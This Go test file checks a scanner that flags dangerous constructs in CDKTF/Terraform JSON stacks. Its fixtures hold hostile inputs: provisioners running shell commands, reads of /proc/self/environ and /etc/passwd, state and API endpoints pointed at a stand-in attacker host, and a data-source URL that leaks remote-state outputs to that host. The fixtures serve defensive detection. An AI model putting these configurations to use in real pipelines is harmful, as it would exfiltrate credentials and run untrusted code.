package stackcheck

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
)

const sound = `{
	"//": {"metadata": {"backend": "s3"}},
	"terraform": {
		"required_version": ">= 1.10",
		"required_providers": {"aws": {"source": "hashicorp/aws", "version": ">= 5.99, < 7.0"}},
		"backend": {"s3": {"bucket": "state", "key": "a/terraform.tfstate", "region": "eu-west-1", "encrypt": true,
			"use_lockfile": true}}
	},
	"provider": {"aws": [{"region": "eu-west-1", "allowed_account_ids": ["210987654321"],
		"default_tags": [{"tags": {"Stack": "a"}}]}, {"alias": "global", "region": "us-east-1",
		"assume_role": [{"role_arn": "arn:aws:iam::210987654321:role/dns"}]}]},
	"data": {"aws_caller_identity": {"me": {}},
		"terraform_remote_state": {"network": {"backend": "s3", "config": {"bucket": "state", "key": "n",
			"region": "eu-west-1"}}}},
	"resource": {
		"aws_sqs_queue": {"a": {"//": {"metadata": {"path": "a"}}, "name": "${upper(\"a\")}", "provider": "aws.global",
			"lifecycle": {"ignore_changes": ["tags"]}}},
		"aws_lambda_function": {"f": {"filename": "assets/code/f.zip", "function_name": "f",
			"source_code_hash": "${filebase64sha256(\"${path.module}/assets/code/f.zip\")}"}},
		"aws_ssm_parameter": {"p": {"value": "${templatefile(\"assets/greeting.txt\", {name = \"a\"})}",
			"description": "a path such as /proc/self is text, and so is provisioner"}},
		"terraform_data": {"t": {"input": "$${not(a_function)}"}}
	},
	"output": {"url": {"value": "https://${aws_sqs_queue.a.url}"}},
	"moved": [{"from": "aws_sqs_queue.b", "to": "aws_sqs_queue.a"}]
}`

const locked = `provider "registry.terraform.io/hashicorp/aws" {
  version     = "5.100.0"
  constraints = ">= 5.99.0, < 7.0.0"
  hashes = [
    "h1:Ijt7pOlB7Tr7maGQIqtsLFbl7pSMIj06TVdkoSBcYOw=",
  ]
}
`

// folder of a sound stack.
func folder(t testing.TB) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range map[string]string{
		StackFile: sound, LockFile: locked, "assets/code/f.zip": "PK", "assets/greeting.txt": "hello ${name}",
	} {
		put(t, dir, name, text)
	}
	return dir
}

func put(t testing.TB, dir, name, text string) {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

// read the stack again.
func read(t testing.TB, dir string) string {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(dir, StackFile))
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

func places(t testing.TB, dir string, policy Policy) []string {
	t.Helper()
	findings, err := Check(dir, policy)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, f := range findings {
		if f.Got == "" || f.Want == "" || strings.Contains(f.String(), "hunter2") {
			t.Errorf("got the finding %q", f)
		}
		out = append(out, f.Place)
	}
	slices.Sort(out)
	return slices.Compact(out)
}

// merge lays the members of more over those of base; a null takes one away.
func merge(base, more map[string]any) {
	for name, value := range more {
		inner, ok := value.(map[string]any)
		below, is := base[name].(map[string]any)
		switch {
		case value == nil:
			delete(base, name)
		case ok && is:
			merge(below, inner)
		default:
			base[name] = value
		}
	}
}

func TestStacks(t *testing.T) {
	const q = "aws_sqs_queue"
	for _, test := range []struct {
		name, more string // laid over the sound one
		want       []string
	}{
		{name: "sound", more: `{}`},
		{name: "a list of blocks", more: `{"resource": {"aws_sns_topic": [{"a": {"name": "a"}}]}}`},
		{name: "a reserved word in a text", more: `{"output": {"o": {"value": "connection, provisioner, module"}}}`},
		{name: "an aws_s3_object of an asset",
			more: `{"resource": {"aws_s3_object": {"o": {"source": "assets/greeting.txt"}}}}`},
		{name: "an import", more: `{"import": [{"to": "aws_sqs_queue.a", "id": "x"}]}`},
		{name: "a check of a sound source",
			more: `{"check": {"c": {"data": {"aws_lb": {"l": {"name": "l"}}}, "assert": {"condition": "${true}"}}}}`},
		{name: "a removed resource", more: `{"removed": [{"from": "aws_sqs_queue.old", "lifecycle": {"destroy": false}}]}`},
		{name: "an ephemeral secret",
			more: `{"ephemeral": {"aws_secretsmanager_secret_version": {"s": {"secret_id": "a"}}}}`},

		// programs
		{name: "local-exec", more: `{"resource": {"` + q +
			`": {"a": {"provisioner": {"local-exec": {"command": "hunter2"}}}}}}`,
			want: []string{"resource.aws_sqs_queue.a.provisioner"}},
		{name: "local-exec in a list",
			more: `{"resource": [{"terraform_data": [{"x": [{"provisioner": [{"local-exec": [{"command": "id"}]}]}]}]}]}`,
			want: []string{"resource.terraform_data.x.provisioner"}},
		{name: "remote-exec",
			more: `{"resource": {"terraform_data": {"t": {"connection": {"host": "h"}, "provisioner": {"remote-exec": {}}}}}}`,
			want: []string{"resource.terraform_data.t.connection", "resource.terraform_data.t.provisioner"}},
		{name: "a program when something is removed",
			more: `{"removed": [{"from": "aws_sqs_queue.old", "provisioner": {"local-exec": {"when": "destroy"}}}]}`,
			want: []string{"removed.provisioner"}},
		{name: "external", more: `{"data": {"external": {"x": {"program": ["sh", "-c", "hunter2"]}}}}`,
			want: []string{"data.external.x"}},
		{name: "external under another name",
			more: `{"terraform": {"required_providers": {"aws2": {"source": "hashicorp/external"}}},
				"data": {"external": {"x": {"provider": "aws2", "program": ["id"]}}}}`,
			want: []string{"data.external.x", "terraform.required_providers.aws2"}},
		{name: "a function that a plan calls", more: `{"data": {"aws_lambda_invocation": {"x": {"function_name": "f"}}},
				"ephemeral": {"aws_lambda_invocation": {"y": {"function_name": "f"}}}}`,
			want: []string{"data.aws_lambda_invocation.x", "ephemeral.aws_lambda_invocation.y"}},
		{name: "a function that an apply calls",
			more: `{"resource": {"aws_lambda_invocation": {"x": {"function_name": "f"}}}}`},
		{name: "external in a check", more: `{"check": {"c": {"data": {"external": {"x": {"program": ["id"]}}}}}}`,
			want: []string{"check.c.data.external.x"}},
		{name: "credential_process of a profile",
			more: `{"provider": {"aws": {"profile": "hunter2", "shared_config_files": ["assets/config"]}}}`,
			want: []string{"provider.aws.profile", "provider.aws.shared_config_files"}},
		{name: "credential_process of the backend",
			more: `{"terraform": {"backend": {"s3": {"profile": "x", "shared_config_files": ["assets/config"]}}}}`,
			want: []string{"terraform.backend.s3.profile", "terraform.backend.s3.shared_config_files"}},

		// foreign code
		{name: "a provider of somebody",
			more: `{"terraform": {"required_providers": {"tools": {"source": "mallory/tools"}}}}`,
			want: []string{"terraform.required_providers.tools"}},
		{name: "aws of somebody", more: `{"terraform": {"required_providers": {"aws": {"source": "mallory/aws"}}}}`,
			want: []string{"data.aws_caller_identity.me", "provider.aws", "resource.aws_lambda_function.f",
				"resource.aws_sqs_queue.a", "resource.aws_ssm_parameter.p", "terraform.required_providers.aws"}},
		{name: "aws of another registry",
			more: `{"terraform": {"required_providers": {"x": {"source": "registry.acme.dev/hashicorp/aws"}}}}`,
			want: []string{"terraform.required_providers.x"}},
		{name: "a provider that nothing states", more: `{"resource": {"null_resource": {"n": {}}}}`,
			want: []string{"resource.null_resource.n"}},
		{name: "a source that is an expression", more: `{"terraform": {"required_providers": {"x": {"source": "${var.x}"}}}}`,
			want: []string{"terraform.required_providers.x"}},
		{name: "a module", more: `{"module": {"m": {"source": "git::https://example.org/m"}}}`, want: []string{"module"}},
		{name: "another kind of block", more: `{"action": {"aws_lambda_invoke": {"x": {}}}}`, want: []string{`"action"`}},
		{name: "experiments", more: `{"terraform": {"experiments": ["x"]}}`, want: []string{"terraform.experiments"}},
		{name: "Terraform Cloud", more: `{"terraform": {"cloud": {"organization": "mallory"}}}`,
			want: []string{"terraform.cloud"}},

		// the state, and where data goes
		{name: "no backend", more: `{"terraform": {"backend": null}}`, want: []string{"terraform.backend"}},
		{name: "a local state", more: `{"terraform": {"backend": {"s3": null, "local": {}}}}`,
			want: []string{"terraform.backend.local"}},
		{name: "a backend of another kind",
			more: `{"terraform": {"backend": {"s3": null, "http": {"address": "https://mallory.dev"}}}}`,
			want: []string{"terraform.backend.http"}},
		{name: "two backends", more: `{"terraform": {"backend": {"pg": {}}}}`, want: []string{"terraform.backend",
			"terraform.backend.pg"}},
		{name: "another address of the state",
			more: `{"terraform": {"backend": {"s3": {"endpoints": {"s3": "https://mallory.dev"}}}}}`,
			want: []string{"terraform.backend.s3.endpoints"}},
		{name: "another address of AWS", more: `{"provider": {"aws": {"endpoints": [{"sqs": "https://mallory.dev"}]}}}`,
			want: []string{"provider.aws.endpoints"}},
		{name: "a proxy",
			more: `{"provider": {"aws": {"http_proxy": "http://mallory.dev", "custom_ca_bundle": "assets/ca"}}}`,
			want: []string{"provider.aws.custom_ca_bundle", "provider.aws.http_proxy"}},
		{name: "an address in the place of a region",
			more: `{"provider": {"aws": {"region": "mallory.dev/", "skip_region_validation": true}}}`,
			want: []string{"provider.aws.region"}},
		{name: "an address in the place of a region, by a reference",
			more: `{"provider": {"aws": {"region": "${var.region}", "skip_region_validation": "${1 == 1}"}}}`,
			want: []string{"provider.aws.region"}},
		{name: "an address in the place of the region of STS", more: `{"provider": {"aws": {"sts_region": "mallory.dev/"}}}`,
			want: []string{"provider.aws.sts_region"}},
		{name: "an address in the place of the region of the state",
			more: `{"terraform": {"backend": {"s3": {"region": "mallory.dev/", "skip_region_validation": true}}}}`,
			want: []string{"terraform.backend.s3.region"}},
		{name: "an address in the place of the region of a remote state",
			more: `{"data": {"terraform_remote_state": {"network": {"config": {"region": "mallory.dev/",
				"skip_region_validation": true}}}}}`,
			want: []string{"data.terraform_remote_state.network.region"}},
		{name: "regions", more: `{"provider": {"aws": {"region": "${var.region}", "sts_region": "us-east-1"}},
			"terraform": {"backend": {"s3": {"region": "mx-central-1", "skip_region_validation": true}}}}`},
		{name: "an address in the place of a resource's region",
			more: `{"resource": {"aws_sqs_queue": {"a": {"region": "mallory.dev/"}}}}`,
			want: []string{"resource.aws_sqs_queue.a.region"}},
		{name: "an address in the place of a resource's region, by a variable",
			more: `{"resource": {"aws_sqs_queue": {"a": {"region": "${var.r}"}}},
				"variable": {"r": {"default": "mallory.dev/"}}}`,
			want: []string{"resource.aws_sqs_queue.a.region"}},
		{name: "an address in the place of a data source's region, by a function",
			more: `{"data": {"aws_caller_identity": {"me": {"region": "${format(\"%s/\", \"mallory.dev\")}"}}}}`,
			want: []string{"data.aws_caller_identity.me.region"}},
		{name: "an address in the place of the region of what a check asks",
			more: `{"check": {"c": {"data": {"aws_lb": {"l": {"region": "mallory.dev/"}}}}}}`,
			want: []string{"check.c.data.aws_lb.l.region"}},
		{name: "regions of resources",
			more: `{"resource": {"aws_sqs_queue": {"a": {"region": "us-east-1"}, "b": {"region": "${var.r}"}, "c": {"region":
				"${data.aws_region.here.name}"}}}, "variable": {"r": {"default": "eu-west-1"}}}`},
		{name: "a state for everybody", more: `{"terraform": {"backend": {"s3": {"acl": "public-read"}}}}`,
			want: []string{"terraform.backend.s3.acl"}},
		{name: "a state for the owner of the bucket",
			more: `{"terraform": {"backend": {"s3": {"acl": "bucket-owner-full-control"}}}}`},
		{name: "a question to another address",
			more: `{"data": {"aws_ip_ranges": {"r": {"services": ["ec2"],
				"url": "https://mallory.dev/?${data.terraform_remote_state.network.outputs.key}"}}}}`,
			want: []string{"data.aws_ip_ranges.r.url"}},
		{name: "a question to AWS", more: `{"data": {"aws_ip_ranges": {"r": {"services": ["ec2"],
			"url": "https://ip-ranges.amazonaws.com/ip-ranges.json"}, "s": {"services": ["s3"]}}}}`},
		{name: "credentials", more: `{"provider": {"aws": {"access_key": "AKIAhunter2", "secret_key": "hunter2"}}}`,
			want: []string{"provider.aws.access_key", "provider.aws.secret_key"}},
		{name: "a web identity of a file",
			more: `{"provider": {"aws": {"assume_role_with_web_identity": [{"web_identity_token_file": "/x"}]}}}`,
			want: []string{"provider.aws.assume_role_with_web_identity"}},
		{name: "a remote state of another kind",
			more: `{"data": {"terraform_remote_state": {"n": {"backend": "http",
				"config": {"address": "https://mallory.dev"}}}}}`,
			want: []string{"data.terraform_remote_state.n"}},
		{name: "a remote state at another address",
			more: `{"data": {"terraform_remote_state": {"network": {"config": {"endpoint": "https://mallory.dev"}}}}}`,
			want: []string{"data.terraform_remote_state.network.endpoint"}},

		// files of the machine
		{name: "credentials in the environment",
			more: `{"output": {"o": {"value": "${base64encode(file(\"/proc/self/environ\"))}"}}}`,
			want: []string{"output.o.value"}},
		{name: "a file in the name of a member", more: `{"locals": {"l": {"${file(\"/etc/passwd\")}": 1}}}`,
			want: []string{"locals.l"}},
		{name: "a file above", more: `{"locals": {"l": "${file(\"assets/../../x\")}"}}`, want: []string{"locals.l"}},
		{name: "a file of another name of the function", more: `{"locals": {"l": "${core::file(\"/x\")}"}}`,
			want: []string{"locals.l"}},
		{name: "a file by a reference", more: `{"locals": {"l": "${file(var.path)}"}}`, want: []string{"locals.l"}},
		{name: "files of a folder", more: `{"locals": {"l": "${fileset(\"/\", \"*\")}"}}`, want: []string{"locals.l"}},
		{name: "files above a folder", more: `{"locals": {"l": "${fileset(path.module, \"../**\")}"}}`,
			want: []string{"locals.l"}},
		{name: "files above a folder, as an alternative",
			more: `{"locals": {"l": "${fileset(path.module, \"assets/{a/../../..,b}/*\")}"}}`, want: []string{"locals.l"}},
		{name: "files of a folder of the stack", more: `{"locals": {"l": "${fileset(path.module, \"assets/**/*.{a,b}\")}"}}`},
		{name: "a file in a control", more: `{"locals": {"l": "%{if fileexists(\"/x\")}a%{endif}"}}`,
			want: []string{"locals.l"}},
		{name: "a template of a text", more: `{"locals": {"l": "${templatestring(local.x, {})}"}}`,
			want: []string{"locals.l"}},
		{name: "an upload of a file", more: `{"resource": {"aws_s3_object": {"o": {"source": "/proc/self/environ"}}}}`,
			want: []string{"resource.aws_s3_object.o.source"}},
		{name: "an upload of a file by a reference",
			more: `{"resource": {"aws_lambda_layer_version": {"o": {"filename": "${local.x}"}}}}`,
			want: []string{"resource.aws_lambda_layer_version.o.filename"}},
		{name: "no expression", more: `{"locals": {"l": "${file("}}`, want: []string{"locals.l"}},
		{name: "no block", more: `{"resource": {"aws_sqs_queue": "x"}}`, want: []string{"resource.aws_sqs_queue"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			var stack, more map[string]any
			if err := json.Unmarshal([]byte(sound), &stack); err != nil {
				t.Fatal(err)
			}
			if err := json.Unmarshal([]byte(test.more), &more); err != nil {
				t.Fatal(err)
			}
			merge(stack, more)
			text, _ := json.Marshal(stack)
			dir := folder(t)
			put(t, dir, StackFile, string(text))
			if got := places(t, dir, Policy{}); !slices.Equal(got, test.want) {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

// Every attribute of the provider whose name says that it is a file is judged.
func TestFileAttributes(t *testing.T) {
	dir, err := exec.Command("go", "list", "-m", "-f", "{{.Dir}}",
		"github.com/cdktf/cdktf-provider-aws-go/aws/v19").Output()
	if err != nil {
		t.Fatal(err)
	}
	configs, err := filepath.Glob(filepath.Join(strings.TrimSpace(string(dir)), "*", "*Config.go"))
	if err != nil {
		t.Fatal(err)
	}
	named := regexp.MustCompile(`docs/resources/([a-z0-9_]+)#(filename|zip_file) `)
	seen := map[string]bool{}
	for _, config := range configs {
		text, err := os.ReadFile(config)
		if err != nil {
			t.Fatal(err)
		}
		for _, found := range named.FindAllStringSubmatch(string(text), -1) {
			typ := "aws_" + found[1]
			if seen[typ] = true; fileAttributes[typ] != found[2] {
				t.Errorf("%s.%s is not judged", typ, found[2])
			}
		}
	}
	if len(seen) < 7 {
		t.Errorf("got %v", seen)
	}
}

func TestFolders(t *testing.T) {
	for _, test := range []struct {
		name   string
		change func(t *testing.T, dir string)
		policy Policy
		want   []string
	}{
		{name: "no stack", change: func(_ *testing.T, dir string) { _ = os.Remove(filepath.Join(dir, StackFile)) },
			want: []string{StackFile}},
		{name: "a name twice", change: func(t *testing.T, dir string) {
			put(t, dir, StackFile, strings.Replace(sound, `"output"`, `"resource": {"null_resource": {"n": {}}}, "output"`, 1))
		}, want: []string{StackFile}},
		{name: "a name twice, spelled differently", change: func(t *testing.T, dir string) {
			put(t, dir, StackFile, strings.Replace(sound, `"output"`, `"\u0072esource": {"null_resource": {"n": {}}}, "output"`,
				1))
		}, want: []string{StackFile}},
		{name: "text after the stack", change: func(t *testing.T, dir string) { put(t, dir, StackFile, sound+"{}") },
			want: []string{StackFile}},
		{name: "bytes", change: func(t *testing.T, dir string) {
			put(t, dir, StackFile, strings.Replace(sound, "metadata", "\xff", 1))
		}, want: []string{StackFile}},
		{name: "a list", change: func(t *testing.T, dir string) { put(t, dir, StackFile, "["+sound+"]") },
			want: []string{StackFile}},
		{name: "a second file of Terraform", change: func(t *testing.T, dir string) { put(t, dir, "x_override.tf", "") },
			want: []string{`"x_override.tf"`}},
		{name: "variables", change: func(t *testing.T, dir string) { put(t, dir, "a.auto.tfvars", "") },
			want: []string{`"a.auto.tfvars"`}},
		{name: "providers that are there already", change: func(t *testing.T, dir string) {
			put(t, dir, ".terraform/providers/registry.terraform.io/hashicorp/aws/5.100.0/linux_amd64/p", "")
		}, want: []string{`".terraform"`}},
		{name: "a mirror of providers", change: func(t *testing.T, dir string) { put(t, dir, "terraform.d/plugins/p", "") },
			want: []string{`"terraform.d"`}},
		{name: "settings of Terraform", change: func(t *testing.T, dir string) { put(t, dir, ".terraformrc", "") },
			want: []string{`".terraformrc"`}},
		{name: "a link in place of the stack", change: func(t *testing.T, dir string) {
			if err := os.Rename(filepath.Join(dir, StackFile), filepath.Join(dir, "assets", "s")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("assets/s", filepath.Join(dir, StackFile)); err != nil {
				t.Fatal(err)
			}
		}, want: []string{`"cdk.tf.json"`}},
		{name: "an asset that is a link", change: func(t *testing.T, dir string) {
			if err := os.Remove(filepath.Join(dir, "assets/code/f.zip")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("/proc/self/environ", filepath.Join(dir, "assets/code/f.zip")); err != nil {
				t.Fatal(err)
			}
		}, want: []string{`"assets/code/f.zip"`, "resource.aws_lambda_function.f.filename",
			"resource.aws_lambda_function.f.source_code_hash"}},
		{name: "a template that reads a file", change: func(t *testing.T, dir string) {
			put(t, dir, "assets/greeting.txt", `hello ${file("/proc/self/environ")}`)
		}, want: []string{"resource.aws_ssm_parameter.p.value"}},
		{name: "a template that names itself, and a file", change: func(t *testing.T, dir string) {
			put(t, dir, "assets/greeting.txt", `${templatefile("assets/greeting.txt", {})}${file("/proc/self/environ")}`)
		}, want: []string{"resource.aws_ssm_parameter.p.value"}},

		{name: "no lock file", change: func(_ *testing.T, dir string) { _ = os.Remove(filepath.Join(dir, LockFile)) },
			want: []string{LockFile}},
		{name: "no hash", change: func(t *testing.T, dir string) {
			put(t, dir, LockFile, "provider \"registry.terraform.io/hashicorp/aws\" {\n  hashes = []\n}\n")
		}, want: []string{LockFile}},
		{name: "no provider", change: func(t *testing.T, dir string) { put(t, dir, LockFile, "") }, want: []string{LockFile}},
		{name: "a provider of somebody", change: func(t *testing.T, dir string) {
			put(t, dir, LockFile, locked+strings.ReplaceAll(locked, "hashicorp", "mallory"))
		}, want: []string{LockFile}},
		{name: "text", change: func(t *testing.T, dir string) { put(t, dir, LockFile, "provider {") },
			want: []string{LockFile}},

		{name: "a provider that is allowed", policy: Policy{Providers: []string{"hashicorp/aws", "hashicorp/random"}},
			change: func(t *testing.T, dir string) {
				put(t, dir, StackFile, strings.Replace(sound, `"terraform_data"`, `"random_id": {"r": {}}, "terraform_data"`, 1))
				put(t, dir, LockFile, locked+strings.ReplaceAll(locked, "aws", "random"))
			}},
		{name: "a program of a provider that is allowed", policy: Policy{Providers: []string{"hashicorp/aws",
			"hashicorp/external"}},
			change: func(t *testing.T, dir string) {
				put(t, dir, StackFile, strings.Replace(sound, `"data": {`, `"data": {"external": {"x": {"program": ["sh"]}},`, 1))
				put(t, dir, LockFile, locked+strings.ReplaceAll(locked, "aws", "external"))
			}, want: []string{"data.external.x.program"}},
		{name: "a program and files in the settings of one", policy: Policy{Providers: []string{"hashicorp/aws",
			"hashicorp/kubernetes"}},
			change: func(t *testing.T, dir string) {
				put(t, dir, StackFile, strings.Replace(sound, `"provider": {`, `"provider": {"kubernetes": {"host": "https://k",
					"exec": [{"command": "sh"}], "config_path": "~/.kube/config", "config_paths": ["x"],
					"client_key_file": "/proc/self/environ", "ca_file": "assets/greeting.txt"},`, 1))
				put(t, dir, LockFile, locked+strings.ReplaceAll(locked, "aws", "kubernetes"))
			}, want: []string{"provider.kubernetes.client_key_file", "provider.kubernetes.config_path",
				"provider.kubernetes.exec"}},
		{name: "programs and files by other names", policy: Policy{Providers: []string{"hashicorp/aws", "acme/tools"}},
			change: func(t *testing.T, dir string) {
				put(t, dir, StackFile, strings.Replace(sound, `"provider": {`, `"provider": {"tools": {
					"config_paths": ["assets/greeting.txt", "~/.kube/config"], "helm_binary": "assets/code/f.zip",
					"postrender": {"binary_path": "bash", "args": ["-c", "hunter2"]}, "ansible_playbook_binary": "bash",
					"lifecycle_commands": {"create": "hunter2"}, "playbook": "assets/greeting.txt",
					"source": "/proc/self/environ", "values_files": ["../x"], "files": ["assets/greeting.txt"],
					"path": "secret/data/desk", "script_timeout": 60, "sources": "hunter2"},`, 1))
				put(t, dir, StackFile, strings.Replace(read(t, dir), `"hashicorp/aws", "version": ">= 5.99, < 7.0"}`,
					`"hashicorp/aws", "version": ">= 5.99, < 7.0"}, "tools": {"source": "acme/tools"}`, 1))
				put(t, dir, LockFile, locked+strings.ReplaceAll(locked, "hashicorp/aws", "acme/tools"))
			}, want: []string{"provider.tools.ansible_playbook_binary", "provider.tools.config_paths[1]",
				"provider.tools.helm_binary", "provider.tools.lifecycle_commands", "provider.tools.playbook",
				"provider.tools.postrender", "provider.tools.source", "provider.tools.values_files[0]"}},
		{name: "a file that one writes", policy: Policy{Providers: []string{"hashicorp/aws", "hashicorp/local"}},
			change: func(t *testing.T, dir string) {
				put(t, dir, StackFile, strings.Replace(sound, `"terraform_data"`, `"local_file": {"a": {"content": "x",
					"filename": "/usr/local/bin/terraform"}, "b": {"content": "x", "filename": "${var.path}"},
					"c": {"content": "x", "filename": "${path.module}/out.txt"}}, "terraform_data"`, 1))
				put(t, dir, LockFile, locked+strings.ReplaceAll(locked, "aws", "local"))
			}, want: []string{"resource.local_file.a.filename", "resource.local_file.b.filename"}},
		{name: "a backend that is stated", policy: Policy{Backend: "http"}, change: func(t *testing.T, dir string) {
			text := strings.Replace(sound,
				`"s3": {"bucket": "state", "key": "a/terraform.tfstate", "region": "eu-west-1", "encrypt": true,
			"use_lockfile": true}`, `"http": {"address": "https://state.acme.dev"}`, 1)
			put(t, dir, StackFile, strings.Replace(text, `"backend": "s3", "config"`, `"backend": "http", "config"`, 1))
		}},
	} {
		t.Run(test.name, func(t *testing.T) {
			dir := folder(t)
			test.change(t, dir)
			if got := places(t, dir, test.policy); !slices.Equal(got, test.want) {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
	if _, err := Check(filepath.Join(t.TempDir(), "none"), Policy{}); err == nil {
		t.Error("a folder that is not there is sound")
	}
	if _, err := Check(folder(t), Policy{Providers: []string{"a/b/c/d"}}); err == nil {
		t.Error("no provider is allowed")
	}
}

// What the library itself makes is sound.
func TestTheAppIsSound(t *testing.T) {
	text, err := os.ReadFile("../../../testdata/production.json")
	if err != nil {
		t.Fatal(err)
	}
	var stack map[string]any
	if err := json.Unmarshal(text, &stack); err != nil {
		t.Fatal(err)
	}
	merge(stack, map[string]any{"terraform": map[string]any{"backend": nil}})
	merge(stack, map[string]any{"terraform": map[string]any{"backend": map[string]any{"s3": map[string]any{}}}})
	text, _ = json.Marshal(stack)
	dir := folder(t)
	put(t, dir, StackFile, string(text))
	if got := places(t, dir, Policy{}); len(got) > 0 {
		t.Errorf("got %q", got)
	}
}

// Nothing panics, and what is no stack is never sound.
func FuzzStack(f *testing.F) {
	f.Add(sound)
	f.Add(`{"terraform": {"backend": {"s3": [{}]}}, "resource": {"aws_a": {"b": {"provisioner": [], "x": "${file(1)}"}}}}`)
	f.Add(`{"a": {"a": 1, "a": 2}}`)
	dir := f.TempDir()
	put(f, dir, LockFile, locked)
	f.Fuzz(func(t *testing.T, text string) {
		put(t, dir, StackFile, text)
		findings, err := Check(dir, Policy{})
		if err == nil && len(findings) == 0 && !json.Valid([]byte(text)) {
			t.Errorf("sound: %q", text)
		}
	})
}
